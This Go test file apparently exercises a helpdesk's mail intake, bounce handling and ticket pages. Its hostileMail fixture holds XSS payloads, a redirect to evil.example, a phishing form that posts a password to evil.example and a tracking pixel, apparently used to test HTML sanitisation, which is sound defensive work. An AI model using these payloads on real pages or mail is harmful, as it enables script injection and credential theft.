package app_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"sportello/app/address"
	"sportello/app/config"
	"sportello/app/desk/intake"
	"sportello/app/desk/notice"
	"sportello/app/desk/post"
	"sportello/store"
	"sportello/store/act"
	"sportello/store/db"
	"sportello/store/door"
	"sportello/store/event"
)

// withMail gives the desk of a test two mailboxes, and a mail server of its own whose word on senders it believes.
func withMail(c *config.Config) {
	c.Mailboxes = []config.Mailbox{{Address: "csa@desk.example", Group: "csa", Module: "csa", Who: post.WhoEverybody},
		{Address: "vaglio@desk.example", Group: "csa", Who: post.WhoHold}}
	c.Mail.TrustedServers = []string{"mx.desk.example"}
}

// letter is a mail as somebody sends it to the desk.
type letter struct {
	from    string
	to      string // csa@desk.example when empty
	cc      string
	subject string
	id      string
	answers string // Message-ID
	text    string
	html    string
	header  string // further lines
	proven  bool
	picture []byte // shown by the HTML as cid:foto
	files   []attachedFile
}

// attachedFile is a file of a letter: name is the parameter of its header that names it, as it stands there.
type attachedFile struct{ name, content string }

var mailNumber atomic.Int64

func (l letter) bytes() []byte {
	var b bytes.Buffer
	line := func(name, value string) {
		if value != "" {
			fmt.Fprintf(&b, "%s: %s\r\n", name, value)
		}
	}
	if l.proven {
		_, domain, _ := strings.Cut(strings.Trim(l.from, ">"), "@")
		line("Authentication-Results", "mx.desk.example; dmarc=pass header.from="+domain)
	}
	if l.to == "" {
		l.to = "csa@desk.example"
	}
	line("From", l.from)
	line("To", l.to)
	line("Cc", l.cc)
	line("Subject", l.subject)
	line("Date", time.Date(2026, 3, 2, 9, 30, 0, 0, time.UTC).Format(time.RFC1123Z))
	line("Message-ID", "<"+l.id+">")
	if l.answers != "" {
		line("In-Reply-To", "<"+l.answers+">")
	}
	b.WriteString(l.header)
	line("MIME-Version", "1.0")
	text := "Content-Type: text/plain; charset=utf-8\r\n\r\n" + l.text + "\r\n"
	html := "Content-Type: text/html; charset=utf-8\r\n\r\n" + l.html + "\r\n"
	body := text
	switch {
	case l.html == "":
	case l.picture == nil:
		body = "Content-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\n" + text + "--b1\r\n" + html + "--b1--\r\n"
	default:
		body = "Content-Type: multipart/related; boundary=b1\r\n\r\n--b1\r\n" + html + "--b1\r\nContent-Type: image/png\r\nContent-ID: <foto>\r\n" +
			"Content-Disposition: inline; filename=foto.png\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(l.picture) + "\r\n--b1--\r\n"
	}
	if len(l.files) > 0 {
		body = "Content-Type: multipart/mixed; boundary=b0\r\n\r\n--b0\r\n" + body
		for _, f := range l.files {
			body += "--b0\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; " + f.name + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
				base64.StdEncoding.EncodeToString([]byte(f.content)) + "\r\n"
		}
		body += "--b0--\r\n"
	}
	b.WriteString(body)
	return b.Bytes()
}

// comes has the mail arrive and be processed, and returns what became of it.
func (w *testDesk) comes(l letter) *store.Mail {
	w.t.Helper()
	if l.id == "" {
		l.id = fmt.Sprintf("mail-%d@altrove.example", mailNumber.Add(1))
	}
	d := w.app.Desk
	row, err := d.Intake.Take(intake.From{Source: "lmtp"}, bytes.NewReader(l.bytes()))
	if err != nil {
		w.t.Fatal(err)
	}
	if err := d.Intake.Process(context.Background()); err != nil {
		w.t.Fatal(err)
	}
	err = w.app.Store.View(func(tx *db.Tx) error {
		row, err = store.Mails.Get(tx, row.ID)
		return err
	})
	if err != nil {
		w.t.Fatal(err)
	}
	return row
}

const hostileMail = `<html><head><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="hacked=1"><p>Buongiorno, il <b>cedolino</b> non si apre: &lt;script&gt;hacked=1&lt;/script&gt;</p><script>hacked=1</script><img src="x" onerror="hacked=1"><a href="javascript:hacked=1">premi</a>
<a href="data:text/html,<script>hacked=1</script>">dati</a><svg onload="hacked=1"><script>hacked=1</script></svg><form action="https://evil.example/"><input name="password"><button>Invia</button></form>
<div style="position:fixed;inset:0">sopra</div><iframe src="https://evil.example/"></iframe><img src="cid:foto" alt="schermata"><img src="https://evil.example/spia.png" alt="fuori" width="1"></body></html>`

// mailed has the requester write a mail with pictures, and returns the message it became.
func (w *world) mailed() (number, message uint64) {
	w.t.Helper()
	w.now++
	row := w.comes(letter{from: "Ada Neri <requester@example.it>", cc: "participant@example.it", proven: true, subject: fmt.Sprintf("Il cedolino non si apre (%d)", w.now),
		html: hostileMail, picture: picture()})
	if row.State != store.MailDone {
		w.t.Fatalf("the mail is %s: %s %s", row.State, row.Why, row.Detail)
	}
	return row.Ticket, row.Message
}

// held has somebody write to the mailbox where all is held.
func (w *world) held() uint64 {
	w.t.Helper()
	w.now++
	row := w.comes(letter{from: "Sergio Sconosciuto <sconosciuto@altrove.example>", to: "vaglio@desk.example", subject: fmt.Sprintf("Posso scrivere? (%d)", w.now),
		html: hostileMail, picture: picture()})
	if row.State != store.MailHeld {
		w.t.Fatalf("the mail is %s", row.State)
	}
	return row.ID
}

// letterTo plans a letter that tells the person of the ticket, in the state, without sending it.
func (w *world) letterTo(person *store.Person, ticket uint64, state store.LetterState, why string) uint64 {
	w.t.Helper()
	w.now++
	l := &store.Letter{State: state, Why: why, Person: person.ID, To: person.Email, Ticket: ticket, MessageID: fmt.Sprintf("lettera-%d@desk.example", w.now),
		Tells: []store.Telling{{Event: event.Opened, At: time.Now()}}, Next: time.Now().Add(time.Hour)}
	if state == store.LetterFailed || state == store.LetterBounced {
		l.Tries, l.Error, l.Subject = 3, "550 5.1.1 no such user: "+person.Email, "[#1] Il cedolino"
	}
	if err := w.app.Store.Update(db.By{Via: door.Desk, Act: act.Letter}, func(tx *db.Tx) error { c := *l; err := store.Letters.Put(tx, &c); l.ID = c.ID; return err }); err != nil {
		w.t.Fatal(err)
	}
	return l.ID
}

// linked sends the requester a letter about the ticket and returns the secret of the link that it carries.
func (w *world) linked(person *store.Person, ticket uint64) string {
	w.t.Helper()
	id := w.letterTo(person, ticket, store.LetterQueued, "")
	err := w.app.Store.Update(db.By{Via: door.Desk, Act: act.Letter}, func(tx *db.Tx) error {
		l, err := store.Letters.Get(tx, id)
		if err != nil {
			return err
		}
		l.Next = tx.Now().Add(-time.Minute)
		return store.Letters.Put(tx, l)
	})
	if err != nil {
		w.t.Fatal(err)
	}
	secret := ""
	_, err = w.app.Desk.Notices.SendLetters(context.Background(), func(_ context.Context, o *notice.Outgoing) notice.Sent {
		if o.Letter.ID == id {
			secret = o.Link
		}
		return notice.Sent{OK: true, Subject: "[#1] prova"}
	})
	if err != nil {
		w.t.Fatal(err)
	}
	if secret == "" {
		w.t.Fatal("the letter carries no link")
	}
	return secret
}

// bounced has a letter about the ticket go to the person and come back.
func (w *world) bounced(person *store.Person, ticket uint64) {
	w.t.Helper()
	id := w.letterTo(person, ticket, store.LetterSent, "")
	var l *store.Letter
	err := w.app.Store.Update(db.By{Via: door.Desk, Act: act.Letter}, func(tx *db.Tx) (err error) {
		if l, err = store.Letters.Get(tx, id); err != nil {
			return err
		}
		return store.MailIDs.Put(tx, &store.MailID{Hash: store.HashMessageID(l.MessageID), Value: l.MessageID, Kind: store.MailOut, Ticket: ticket, Letter: id})
	})
	if err != nil {
		w.t.Fatal(err)
	}
	raw := strings.ReplaceAll(fmt.Sprintf(`From: MAILER-DAEMON@mx.example.it
To: csa@desk.example
Subject: Undelivered Mail Returned to Sender
Message-ID: <respinta-%d@mx.example.it>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary=b1

--b1
Content-Type: text/plain

<%s>: mailbox unavailable

--b1
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.it

Final-Recipient: rfc822; %s
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 mailbox unavailable

--b1
Content-Type: text/rfc822-headers

Message-ID: <%s>
To: %s

--b1--
`, id, person.Email, person.Email, l.MessageID, person.Email), "\n", "\r\n")
	if _, err := w.app.Desk.Intake.Take(intake.From{Source: "lmtp"}, strings.NewReader(raw)); err != nil {
		w.t.Fatal(err)
	}
	if err := w.app.Desk.Intake.Process(context.Background()); err != nil {
		w.t.Fatal(err)
	}
}

// TestATicketThatAFormOpenedIsClaimedOnItsPage: the person whom a web form names is asked, by a page that shows
// nothing of the ticket; nobody else gets it.
func TestATicketThatAFormOpenedIsClaimedOnItsPage(t *testing.T) {
	w := newWorld(t)
	row := w.comes(letter{from: "Modulo <noreply@example.it>", subject: "Zibaldone", id: "modulo@x", text: "Parole di chissà chi", header: "Reply-To: requester@example.it\r\n"})
	at := address.Ticket(row.Ticket)
	for _, role := range []string{"participant", "stranger", "coordinator"} {
		b := w.visitor(role)
		b.must(b.get(at), 404)
		b.must(b.post(at+"/claim", nil), 404)
	}
	agent := w.visitor("agent")
	agent.must(agent.get(at), 200, "Zibaldone", "non ha ancora confermato")
	b := w.visitor("requester")
	b.must(b.get(at), 200, "È tua questa richiesta?", "!Zibaldone", "!chissà")
	b.must(b.get("/tickets"), 200, "!Zibaldone")
	b.must(b.post(at+"/claim", nil), 303)
	b.must(b.get(at), 200, "Zibaldone", "chissà")
	b.must(b.post(at+"/claim", nil), 404)
	agent.must(agent.get(at), 200, "ha confermato che la richiesta è sua", "!non ha ancora confermato")
}

// TestTheTicketPageNamesLettersThatDidNotLeave: the agent's page of a ticket names the letters that did not leave;
// the requester's page does not.
func TestTheTicketPageNamesLettersThatDidNotLeave(t *testing.T) {
	w := newWorld(t)
	n := w.ticket().ID
	w.letterTo(w.people["requester"], n, store.LetterFailed, "")
	w.letterTo(w.people["requester"], n, store.LetterHeld, "admin")
	w.letterTo(w.people["requester"], n, store.LetterSent, "")
	agent, requester := w.visitor("agent"), w.visitor("requester")
	agent.must(agent.get(address.Ticket(n)), 200, "2 mail di questa richiesta non sono partite", "550 5.1.1", "!/admin/letters")
	requester.must(requester.get(address.Ticket(n)), 200, "!non sono partite", "!550 5.1.1")
}

// TestTheTicketPageOffersTheInnerSender: the agent is offered who wrote what was passed on, and told that nothing
// proves it; whoever passed it on is not.
func TestTheTicketPageOffersTheInnerSender(t *testing.T) {
	w := newWorld(t)
	m := w.comes(letter{from: "requester@example.it", subject: "I: Badge", id: "inoltro@x", proven: true,
		html: `<p>Vi inoltro per competenza.</p><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>Da:</b> Mario "il Rosso" &lt;mario@esterno.example&gt;<br><b>Inviato:</b> lunedì 3 marzo 2025 10:12<br><b>A:</b> csa<br><b>Oggetto:</b> Badge</div><p>Il badge non apre.</p>`})
	at := address.Ticket(m.Ticket)
	b := w.visitor("agent")
	b.must(b.get(at), 200, "Il badge non apre.", "mario@esterno.example", "niente lo prova", "lunedì 3 marzo 2025 10:12", `value="requester"`)
	own := w.visitor("requester")
	own.must(own.get(at), 200, "Il badge non apre.", "!niente lo prova", `!value="requester"`)
	other := w.visitor("elsewhere")
	other.must(other.get(at), 200, "Il badge non apre.", `!value="requester"`)
	b.must(b.post(at+"/participants-desk", w.formOf(b, m.Ticket, "act", "requester", "address", "nessuno")), 422, "Non è un indirizzo e-mail")
	b.must(b.post(at+"/participants-desk", w.formOf(b, m.Ticket, "act", "requester", "address", "mario@esterno.example")), 303)
	b.must(b.get(at), 200, "è il richiedente al posto di", "!niente lo prova")
	own.must(own.get(at), 200, "Il badge non apre.")
}
